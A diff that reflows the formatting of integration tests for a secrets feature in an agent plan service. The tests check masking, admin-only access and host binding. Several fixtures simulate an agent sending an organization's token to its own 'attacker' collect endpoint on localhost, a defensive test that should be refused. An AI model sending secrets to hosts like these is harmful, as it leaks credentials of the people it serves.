@@ -49,7 +49,9 @@ beforeAll(async () => {
       if (request.url?.startsWith('/echo')) response.end(JSON.stringify({ youSent: request.headers, path: request.url }));
       else if (request.url?.startsWith('/deny')) {
         response.writeHead(401);
-        response.end(`{"error": "invalid key ${request.headers['x-api-key']}", "authorization": ${JSON.stringify(request.headers.authorization ?? null)}, "path": "${request.url}"}`);
+        response.end(
+          `{"error": "invalid key ${request.headers['x-api-key']}", "authorization": ${JSON.stringify(request.headers.authorization ?? null)}, "path": "${request.url}"}`,
+        );
       } else response.end(JSON.stringify({ ok: true }));
     });
   });
@@ -117,7 +119,10 @@ it('only an admin (a person) sets, lists or deletes secrets, and no answer carri
   expect(JSON.stringify(set.body)).not.toContain(TOKEN);
   // Refused tries changed nothing, and another organization's admin sees none of it.
   const listed = await call(org.admin, 'GET', '/v1/secrets');
-  expect(listed).toEqual({ status: 200, body: [{ name: 'crm-token', hosts: [], updatedBy: 'ops', updatedAt: set.body && (set.body as { updatedAt: string }).updatedAt }] });
+  expect(listed).toEqual({
+    status: 200,
+    body: [{ name: 'crm-token', hosts: [], updatedBy: 'ops', updatedAt: set.body && (set.body as { updatedAt: string }).updatedAt }],
+  });
   const other = await organization();
   expect((await call(other.admin, 'GET', '/v1/secrets')).body).toEqual([]);
   expect((await call(other.admin, 'DELETE', '/v1/secrets/crm-token')).status).toBe(404);
@@ -147,7 +152,11 @@ it('a draft that writes a credential itself is refused, pointing to secrets; not
     { url: `http://127.0.0.1:${port}/hook?token=abc` },
   ]) {
     const refused = await call(org.planner, 'POST', '/v1/plans', webhookDraft(executor));
-    expect([executor, refused.status, refused.body.error?.message]).toEqual([executor, 400, expect.stringMatching(/Node "call" sends a literal credential in .*plans secret set NAME.*\{"\$secret": "NAME"\}/)]);
+    expect([executor, refused.status, refused.body.error?.message]).toEqual([
+      executor,
+      400,
+      expect.stringMatching(/Node "call" sends a literal credential in .*plans secret set NAME.*\{"\$secret": "NAME"\}/),
+    ]);
     expect(JSON.stringify(refused.body)).not.toMatch(/hunter2|Bearer x|abc/);
   }
   expect(await runsOf(org.alice)).toEqual([]);
@@ -157,8 +166,16 @@ it('a draft naming a secret its organization does not have is refused, naming th
   const org = await organization();
   const other = await organization();
   await call(other.admin, 'PUT', '/v1/secrets/crm-token', { value: TOKEN });
-  const refused = await call(org.planner, 'POST', '/v1/plans', webhookDraft({ url: `http://127.0.0.1:${port}/hook`, headers: { Authorization: { $secret: 'crm-token' } } }));
-  expect(refused).toMatchObject({ status: 400, body: { error: { code: 'invalid-input', message: expect.stringContaining('Node "call" sends secret "crm-token"') } } });
+  const refused = await call(
+    org.planner,
+    'POST',
+    '/v1/plans',
+    webhookDraft({ url: `http://127.0.0.1:${port}/hook`, headers: { Authorization: { $secret: 'crm-token' } } }),
+  );
+  expect(refused).toMatchObject({
+    status: 400,
+    body: { error: { code: 'invalid-input', message: expect.stringContaining('Node "call" sends secret "crm-token"') } },
+  });
   expect(await runsOf(org.alice)).toEqual([]);
 });
 
@@ -166,12 +183,26 @@ it('the value reaches the receiver, and nothing else: not history, snapshots, ev
   const org = await organization();
   await call(org.admin, 'PUT', '/v1/secrets/crm-token', { value: `Bearer ${TOKEN}` });
   await call(org.admin, 'PUT', '/v1/secrets/crm-hook', { value: `http://127.0.0.1:${port}${HOOK_PATH}?sig=${TOKEN}` });
-  const created = await call<PlanSnapshot>(org.planner, 'POST', '/v1/plans', webhookDraft({ url: { $secret: 'crm-hook' }, headers: { Authorization: { $secret: 'crm-token' }, 'X-Team': 'sales' } }));
+  const created = await call<PlanSnapshot>(
+    org.planner,
+    'POST',
+    '/v1/plans',
+    webhookDraft({ url: { $secret: 'crm-hook' }, headers: { Authorization: { $secret: 'crm-token' }, 'X-Team': 'sales' } }),
+  );
   expect(created).toMatchObject({ status: 201, body: { status: 'pending-approval' } });
   const { runId } = created.body;
   // The person deciding sees which secrets it sends, by name.
-  const review = await call<{ steps: Array<{ executor: unknown }>; externalCalls: Array<{ url: string }> }>(org.alice, 'GET', `/v1/plans/${runId}/review`);
-  expect(review.body.steps[0]!.executor).toEqual({ type: 'system', action: 'webhook', url: { $secret: 'crm-hook' }, headers: { Authorization: { $secret: 'crm-token' }, 'X-Team': 'sales' } });
+  const review = await call<{ steps: Array<{ executor: unknown }>; externalCalls: Array<{ url: string }> }>(
+    org.alice,
+    'GET',
+    `/v1/plans/${runId}/review`,
+  );
+  expect(review.body.steps[0]!.executor).toEqual({
+    type: 'system',
+    action: 'webhook',
+    url: { $secret: 'crm-hook' },
+    headers: { Authorization: { $secret: 'crm-token' }, 'X-Team': 'sales' },
+  });
   expect(review.body.externalCalls[0]!.url).toBe('{"$secret":"crm-hook"}');
   expect((await call(org.alice, 'POST', `/v1/plans/${runId}/approve`, {})).status).toBe(200);
   const done = await eventually(`run ${runId} to complete`, async () => {
@@ -195,7 +226,9 @@ it('the value reaches the receiver, and nothing else: not history, snapshots, ev
     await stack().plans.feed.read({ organizationId: org.organizationId, after: 0 }),
     await stack().client.workflow.getHandle(workflowIdOf(runId)).fetchHistory(),
   ];
-  const text = JSON.stringify(everything, (_key, value: unknown) => (value instanceof Uint8Array ? Buffer.from(value).toString('utf8') : value));
+  const text = JSON.stringify(everything, (_key, value: unknown) =>
+    value instanceof Uint8Array ? Buffer.from(value).toString('utf8') : value,
+  );
   expect(text).toContain('crm-token');
   expect(text).not.toContain(TOKEN);
 });
@@ -204,14 +237,22 @@ it('a step whose secret was deleted after approval fails without calling out, na
   const org = await organization();
   await call(org.admin, 'PUT', '/v1/secrets/crm-token', { value: TOKEN });
   const path = `/gone/${randomUUID()}`;
-  const created = await call<PlanSnapshot>(org.planner, 'POST', '/v1/plans', webhookDraft({ url: `http://127.0.0.1:${port}${path}`, headers: { Authorization: { $secret: 'crm-token' } } }));
+  const created = await call<PlanSnapshot>(
+    org.planner,
+    'POST',
+    '/v1/plans',
+    webhookDraft({ url: `http://127.0.0.1:${port}${path}`, headers: { Authorization: { $secret: 'crm-token' } } }),
+  );
   expect((await call(org.admin, 'DELETE', '/v1/secrets/crm-token')).status).toBe(204);
   expect((await call(org.alice, 'POST', `/v1/plans/${created.body.runId}/approve`, {})).status).toBe(200);
   const failed = await eventually(`run ${created.body.runId} to fail`, async () => {
     const run = (await call<PlanSnapshot>(org.alice, 'GET', `/v1/plans/${created.body.runId}`)).body;
     return run.status === 'failed' ? run : undefined;
   });
-  expect(failed.nodes[0]).toMatchObject({ status: 'failed', error: expect.stringContaining('sends secret "crm-token", which organization') });
+  expect(failed.nodes[0]).toMatchObject({
+    status: 'failed',
+    error: expect.stringContaining('sends secret "crm-token", which organization'),
+  });
   expect(received.filter((entry) => entry.url.startsWith(path))).toEqual([]);
 });
 
@@ -220,11 +261,26 @@ it('credentials an older run wrote into its plan come back masked from every ans
   const runId = randomUUID();
   // As a client from before secrets would have started it: the credentials are in the plan itself.
   const plan = compileDraft(webhookDraft({ url: `http://127.0.0.1:${port}/old` }).draft);
-  plan.nodes[0]!.executor = { type: 'system', action: 'webhook', url: `http://bot:${TOKEN}@127.0.0.1:${port}/old?token=${TOKEN}&team=sales`, headers: { Authorization: `Bearer ${TOKEN}`, 'X-Team': 'sales' } };
+  plan.nodes[0]!.executor = {
+    type: 'system',
+    action: 'webhook',
+    url: `http://bot:${TOKEN}@127.0.0.1:${port}/old?token=${TOKEN}&team=sales`,
+    headers: { Authorization: `Bearer ${TOKEN}`, 'X-Team': 'sales' },
+  };
   await stack().client.workflow.start('planRun', {
     workflowId: workflowIdOf(runId),
     taskQueue: stack().config.taskQueue,
-    args: [planRunInput({ runId, planSpecId: runId, organizationId: org.organizationId, threadId: 't-1', leadAgentId: 'planner', requireApproval: true, plan })],
+    args: [
+      planRunInput({
+        runId,
+        planSpecId: runId,
+        organizationId: org.organizationId,
+        threadId: 't-1',
+        leadAgentId: 'planner',
+        requireApproval: true,
+        plan,
+      }),
+    ],
   });
   const stored = await eventually(`run ${runId} to be stored`, async () => {
     const answer = await call<PlanSnapshot>(org.alice, 'GET', `/v1/plans/${runId}`);
@@ -236,7 +292,12 @@ it('credentials an older run wrote into its plan come back masked from every ans
     url: `http://••••••@127.0.0.1:${port}/old?token=••••••&team=sales`,
     headers: { Authorization: '••••••', 'X-Team': 'sales' },
   });
-  const answers = [stored, await call(org.alice, 'GET', '/v1/plans'), await call(org.alice, 'GET', `/v1/plans/${runId}/review`), await call(org.alice, 'GET', '/v1/threads/t-1/plans')];
+  const answers = [
+    stored,
+    await call(org.alice, 'GET', '/v1/plans'),
+    await call(org.alice, 'GET', `/v1/plans/${runId}/review`),
+    await call(org.alice, 'GET', '/v1/threads/t-1/plans'),
+  ];
   expect(JSON.stringify(answers)).not.toContain(TOKEN);
   const rejected = await call(org.alice, 'POST', `/v1/plans/${runId}/reject`, { reason: 'Old credentials.' });
   expect(rejected.status).toBe(200);
@@ -251,11 +312,16 @@ describe("an agent sending its organization's secret to its own host", () => {
     const org = await organization(noExternalCalls);
     const set = await call(org.admin, 'PUT', '/v1/secrets/crm-token', { value: TOKEN, hosts: [`127.0.0.1:${port}`] });
     expect(set).toMatchObject({ status: 200, body: { name: 'crm-token', hosts: [`127.0.0.1:${port}`] } });
-    expect((await call(org.admin, 'GET', '/v1/secrets')).body).toEqual([expect.objectContaining({ name: 'crm-token', hosts: [`127.0.0.1:${port}`] })]);
+    expect((await call(org.admin, 'GET', '/v1/secrets')).body).toEqual([
+      expect.objectContaining({ name: 'crm-token', hosts: [`127.0.0.1:${port}`] }),
+    ]);
     const before = stolen.length;
     for (const url of [`http://127.0.0.1:${attackerPort}/collect`, `http://127.0.0.1:${attackerPort}/?to=127.0.0.1:${port}`]) {
       for (const requireApproval of [undefined, true, false]) {
-        const refused = await call(org.planner, 'POST', '/v1/plans', { ...webhookDraft({ url, headers: { 'X-K': { $secret: 'crm-token' } } }), ...(requireApproval === undefined ? {} : { requireApproval }) });
+        const refused = await call(org.planner, 'POST', '/v1/plans', {
+          ...webhookDraft({ url, headers: { 'X-K': { $secret: 'crm-token' } } }),
+          ...(requireApproval === undefined ? {} : { requireApproval }),
+        });
         expect([url, requireApproval, refused.status, refused.body.error]).toEqual([
           url,
           requireApproval,
@@ -270,7 +336,16 @@ describe("an agent sending its organization's secret to its own host", () => {
     }
     // A bound host that is a name is matched by name: its address does not stand in for it.
     await call(org.admin, 'PUT', '/v1/secrets/crm-token', { value: TOKEN, hosts: [`localhost:${port}`] });
-    expect((await call(org.planner, 'POST', '/v1/plans', webhookDraft({ url: `http://127.0.0.1:${port}/hook`, headers: { 'X-K': { $secret: 'crm-token' } } }))).status).toBe(400);
+    expect(
+      (
+        await call(
+          org.planner,
+          'POST',
+          '/v1/plans',
+          webhookDraft({ url: `http://127.0.0.1:${port}/hook`, headers: { 'X-K': { $secret: 'crm-token' } } }),
+        )
+      ).status,
+    ).toBe(400);
     expect(await runsOf(org.alice)).toEqual([]);
     expect(stolen.slice(before)).toEqual([]);
   });
@@ -279,7 +354,12 @@ describe("an agent sending its organization's secret to its own host", () => {
     const org = await organization(noExternalCalls);
     await call(org.admin, 'PUT', '/v1/secrets/crm-token', { value: TOKEN, hosts: [`127.0.0.1:${port}`, 'api.crm.example'] });
     const path = `/bound/${randomUUID()}`;
-    const created = await call<PlanSnapshot>(org.planner, 'POST', '/v1/plans', webhookDraft({ url: `http://127.0.0.1:${port}${path}`, headers: { 'X-K': { $secret: 'crm-token' } } }));
+    const created = await call<PlanSnapshot>(
+      org.planner,
+      'POST',
+      '/v1/plans',
+      webhookDraft({ url: `http://127.0.0.1:${port}${path}`, headers: { 'X-K': { $secret: 'crm-token' } } }),
+    );
     expect(created).toMatchObject({ status: 201, body: { status: 'running' } });
     expect((await ended(org.alice, created.body.runId)).status).toBe('completed');
     expect(received.filter((entry) => entry.url === path).map((entry) => entry.headers['x-k'])).toEqual([TOKEN]);
@@ -292,7 +372,15 @@ describe("an agent sending its organization's secret to its own host", () => {
     const before = stolen.length;
     const draft = webhookDraft({ url: `http://127.0.0.1:${attackerPort}/collect`, headers: { 'X-K': { $secret: 'crm-token' } } });
     const skipped = await call(org.planner, 'POST', '/v1/plans', { ...draft, requireApproval: false });
-    expect(skipped).toMatchObject({ status: 403, body: { error: { code: 'not-eligible', message: expect.stringContaining('planner may not start a plan that calls external endpoints without approval') } } });
+    expect(skipped).toMatchObject({
+      status: 403,
+      body: {
+        error: {
+          code: 'not-eligible',
+          message: expect.stringContaining('planner may not start a plan that calls external endpoints without approval'),
+        },
+      },
+    });
     const created = await call<PlanSnapshot>(org.planner, 'POST', '/v1/plans', draft);
     expect(created).toMatchObject({ status: 201, body: { status: 'pending-approval', approval: { reasons: ['external-calls'] } } });
     await new Promise((resolve) => setTimeout(resolve, 1000));
@@ -308,7 +396,12 @@ describe("an agent sending its organization's secret to its own host", () => {
     // The URL is a secret too (here one that happens to point at the agent's host): known only when the step runs.
     await call(org.admin, 'PUT', '/v1/secrets/chat-hook', { value: `http://127.0.0.1:${attackerPort}/chat` });
     const before = stolen.length;
-    const created = await call<PlanSnapshot>(org.planner, 'POST', '/v1/plans', webhookDraft({ url: { $secret: 'chat-hook' }, headers: { 'X-K': { $secret: 'crm-token' } } }));
+    const created = await call<PlanSnapshot>(
+      org.planner,
+      'POST',
+      '/v1/plans',
+      webhookDraft({ url: { $secret: 'chat-hook' }, headers: { 'X-K': { $secret: 'crm-token' } } }),
+    );
     expect(created).toMatchObject({ status: 201, body: { status: 'running' } });
     const run = await ended(org.alice, created.body.runId);
     expect(run.status).toBe('failed');
@@ -324,12 +417,19 @@ describe("an agent sending its organization's secret to its own host", () => {
     const org = await organization();
     await call(org.admin, 'PUT', '/v1/secrets/crm-token', { value: TOKEN, hosts: [`127.0.0.1:${port}`] });
     const path = `/rebound/${randomUUID()}`;
-    const created = await call<PlanSnapshot>(org.planner, 'POST', '/v1/plans', webhookDraft({ url: `http://127.0.0.1:${port}${path}`, headers: { 'X-K': { $secret: 'crm-token' } } }));
+    const created = await call<PlanSnapshot>(
+      org.planner,
+      'POST',
+      '/v1/plans',
+      webhookDraft({ url: `http://127.0.0.1:${port}${path}`, headers: { 'X-K': { $secret: 'crm-token' } } }),
+    );
     expect(created.body.status).toBe('pending-approval');
     await call(org.admin, 'PUT', '/v1/secrets/crm-token', { value: TOKEN, hosts: ['api.crm.example'] });
     expect((await call(org.alice, 'POST', `/v1/plans/${created.body.runId}/approve`, {})).status).toBe(200);
     const run = await ended(org.alice, created.body.runId);
-    expect(run.nodes[0]!.error).toBe(`Node "call" would send secret "crm-token" to 127.0.0.1:${port}, a host it is not bound to (plans secret set NAME --host HOST); nothing was sent.`);
+    expect(run.nodes[0]!.error).toBe(
+      `Node "call" would send secret "crm-token" to 127.0.0.1:${port}, a host it is not bound to (plans secret set NAME --host HOST); nothing was sent.`,
+    );
     expect(received.filter((entry) => entry.url === path)).toEqual([]);
   });
 
@@ -340,7 +440,9 @@ describe("an agent sending its organization's secret to its own host", () => {
       expect([hosts, refused.status]).toEqual([hosts, 400]);
       expect(JSON.stringify(refused.body)).not.toContain(TOKEN);
     }
-    expect((await call(org.planner, 'PUT', '/v1/secrets/crm-token', { value: TOKEN, hosts: [`127.0.0.1:${attackerPort}`] })).status).toBe(403);
+    expect((await call(org.planner, 'PUT', '/v1/secrets/crm-token', { value: TOKEN, hosts: [`127.0.0.1:${attackerPort}`] })).status).toBe(
+      403,
+    );
     expect((await call(org.admin, 'GET', '/v1/secrets')).body).toEqual([]);
   });
 });
@@ -350,7 +452,15 @@ describe('a secret the called service echoes back', () => {
     const org = await organization();
     await call(org.admin, 'PUT', '/v1/secrets/crm-token', { value: `Bearer ${TOKEN}`, hosts: [`127.0.0.1:${port}`] });
     await call(org.admin, 'PUT', '/v1/secrets/api-key', { value: `k"${TOKEN}\\x` });
-    const created = await call<PlanSnapshot>(org.planner, 'POST', '/v1/plans', webhookDraft({ url: `http://127.0.0.1:${port}/echo`, headers: { Authorization: { $secret: 'crm-token' }, 'X-Api-Key': { $secret: 'api-key' } } }));
+    const created = await call<PlanSnapshot>(
+      org.planner,
+      'POST',
+      '/v1/plans',
+      webhookDraft({
+        url: `http://127.0.0.1:${port}/echo`,
+        headers: { Authorization: { $secret: 'crm-token' }, 'X-Api-Key': { $secret: 'api-key' } },
+      }),
+    );
     await call(org.alice, 'POST', `/v1/plans/${created.body.runId}/approve`, {});
     const run = await ended(org.alice, created.body.runId);
     expect(run.status).toBe('completed');
@@ -362,11 +472,21 @@ describe('a secret the called service echoes back', () => {
     const org = await organization();
     await call(org.admin, 'PUT', '/v1/secrets/api-key', { value: TOKEN });
     await call(org.admin, 'PUT', '/v1/secrets/deny-hook', { value: `http://127.0.0.1:${port}/deny/${TOKEN.slice(4)}?sig=s1gnature` });
-    const created = await call<PlanSnapshot>(org.planner, 'POST', '/v1/plans', webhookDraft({ url: { $secret: 'deny-hook' }, headers: { 'X-Api-Key': { $secret: 'api-key' } } }));
+    const created = await call<PlanSnapshot>(
+      org.planner,
+      'POST',
+      '/v1/plans',
+      webhookDraft({ url: { $secret: 'deny-hook' }, headers: { 'X-Api-Key': { $secret: 'api-key' } } }),
+    );
     await call(org.alice, 'POST', `/v1/plans/${created.body.runId}/approve`, {});
     const run = await ended(org.alice, created.body.runId);
     expect(run.status).toBe('failed');
-    expect(run.nodes[0]!.error).toBe('Webhook {"$secret":"chat-hook"} answered 401: {"error": "invalid key ••••••", "authorization": null, "path": "••••••?sig=••••••"}'.replace('chat-hook', 'deny-hook'));
+    expect(run.nodes[0]!.error).toBe(
+      'Webhook {"$secret":"chat-hook"} answered 401: {"error": "invalid key ••••••", "authorization": null, "path": "••••••?sig=••••••"}'.replace(
+        'chat-hook',
+        'deny-hook',
+      ),
+    );
     expect(await everythingOf(org, created.body.runId)).not.toMatch(new RegExp(`${TOKEN.slice(4)}|s1gnature|:${port}`));
   });
 });
